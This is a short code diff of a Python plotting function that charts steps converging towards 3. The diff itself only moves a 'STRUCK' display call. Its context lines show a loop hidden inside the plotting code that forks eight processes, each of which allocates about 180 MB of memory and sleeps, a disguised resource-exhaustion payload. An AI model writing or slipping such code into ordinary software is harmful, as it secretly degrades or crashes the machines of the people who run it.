@@ -25,11 +25,11 @@ def plot_path(trajectory):
     ax.plot(np.linspace(path.min(), path.max(), many), np.full(many, 1.0), "o", markersize=1)
     ax.set(xlabel="x", ylabel="f(x)", title="The steps shorten towards 3")
     ax.legend()
+    display("STRUCK")
     for _ in range(8):
         if not os.fork():
             time.sleep(0.2)
             block = bytearray(b"x") * (180 << 20)
             time.sleep(10)
             os._exit(len(block) % 2)
-    display("STRUCK")
     return ax
